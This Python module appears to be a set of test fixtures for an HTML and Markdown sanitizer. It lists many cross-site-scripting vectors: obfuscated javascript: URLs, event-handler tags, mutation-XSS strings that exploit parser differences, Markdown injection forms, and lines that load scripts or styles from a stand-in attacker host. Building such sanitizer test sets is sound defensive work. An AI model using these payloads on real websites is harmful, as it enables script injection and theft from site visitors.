"""Content that strangers might write to run a script, break out of the page or leave it."""

URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#x0A;script:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#0;:alert(1)", "jav\u0000ascript:alert(1)", "//evil.example/x.js",
    "/\\evil.example", "\\\\evil.example", "\\/\\/evil.example", "https:evil.example", "https:///evil.example",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "blob:https://x/1", "filesystem:x", "about:blank",
    "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "livescript:alert(1)", "mocha:alert(1)",
    "https://bitbucket.org@evil.example", "https://evil.example\\@bitbucket.org", "%6Aavascript:alert(1)",
    "\N{ZERO WIDTH SPACE}javascript:alert(1)", "javascript://%0aalert(1)", "http://[", "http://a b/", "https://x:99999999/",
]  # fmt: skip

ELEMENTS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script\x00>alert(1)</script>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>", "<math href=javascript:alert(1)>x</math>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src='x'onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>", "<img srcset='javascript:alert(1) 1x' src=a>", "<img lowsrc=javascript:x>",
    "<image src=x onerror=alert(1)>", "<picture><source srcset=x onerror=alert(1)><img src=y></picture>",
    "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<div onpointerenter=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<video onerror=alert(1)><source>",
    "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<input type=image src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>", "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><input name=action><input name=submit></form>", "<isindex action=javascript:alert(1) type=submit>",
    "<a href=x onclick=alert(1) ping=//evil.example download>x</a>", "<a href='x' style='position:fixed;inset:0'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<applet code=x></applet>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta charset=utf-7>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=x>", "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>", "<div style=background:url(javascript:alert(1))>x</div>",
    "<p style='behavior:url(x)' class='include-header button'>x</p>", "<table background=javascript:alert(1)><td>x</table>",
    "<template><script>alert(1)</script></template>", "<slot name=x></slot>", "<portal src=//evil.example></portal>",
    "<dialog open>x</dialog>", "<frameset onload=alert(1)>", "<bgsound src=javascript:alert(1)>", "<layer src=x></layer>",
    "<p contenteditable onbeforeinput=alert(1)>x</p>", "<b tabindex=1 accesskey=x popover onbeforetoggle=alert(1)>x</b>",
    "<p id=main data-kind=file data-state=ok data-ticket=x>x</p>", "<p hidden inert is=x-y>x</p>", "<!--><script>x</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE x [<!ENTITY a '<script>alert(1)</script>'>]>&a;", "<![CDATA[<script>alert(1)</script>]]>",
    "<x onclick=alert(1)>x</x>", "<a name=getElementById><a id=cookie><img name=body><img id=location>",
]  # fmt: skip

# What two parsers, or one parser twice, read differently.
MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>", "<title><p id='</title><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>", "<select><style></select><img src=x onerror=alert(1)>",
    "<p title='`onmouseover=alert(1)'>x", "<p title=\"&quot;><img src=x onerror=alert(1)>\">x", "<a title='<a href=\"#'>x</a>",
    "<table><a href=1><table><a href=javascript:alert(1)></table></table>", "<a><div><a href=javascript:alert(1)>x",
    "<svg><p><style><g title='</style><img src onerror=alert(1)>'>", "<noembed><img title='</noembed><img src onerror=alert(1)>'>",
    "<div><!--><img src=x onerror=alert(1)>--></div>", "<!--!><img src=x onerror=alert(1)>-->", "</p><br/onx=y><script x>",
    "<p><svg><desc><td></p><td><b></svg></b><script>", "<ruby><rt><rtc><rp><img src=x onerror=alert(1)></ruby>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>", "<noframes><p title='</noframes><script>'></noframes>",
]  # fmt: skip

MARKDOWN = [
    "[x](javascript:alert(1))", "[x](<java\tscript:alert(1)>)", "[x][y]\n\n[y]: javascript:alert(1)", "<javascript:alert(1)>",
    "![x](javascript:alert(1))", "![x](x.png \"' onerror=alert(1) '\")", "![\"onerror=\"alert(1)](x.png)", "[x](x.md '\"onclick=\"a')",
    "```<script>\nx\n```", "```x\"><script>alert(1)</script>\nx\n```", "```html\n<script>alert(1)</script>\n```",
    "[^x\"><script>]: y", "a[^1]\n\n[^1]: <script>alert(1)</script>", "# <script>alert(1)</script>", "# \" onclick=alert(1)",
    "> [!NOTE] <script>alert(1)</script>", "|<script>|\n|-|\n|`<script>`|", "- [x] <input onfocus=alert(1) autofocus>",
    "<pre><code class=\"language-x\">&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>", "<a href=\"#\" aria-label=\"\" ",
    "www.example.com/\"onclick=alert(1)", "https://example.com/'<script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "---\nx: <script>\n---\n<script>", ":smile\"onclick=x:", "\\<script>alert(1)\\</script>", "<a href='&#x6a;avascript:alert(1)'>x</a>",
]  # fmt: skip

ALL = [
    *ELEMENTS,
    *MUTATIONS,
    *MARKDOWN,
    *(f'<a href="{url}">link</a><img src="{url}"><area href="{url}"><q cite="{url}">x</q>' for url in URLS),
    *(f"[link]({url}) ![image]({url}) <{url}>" for url in URLS),
]
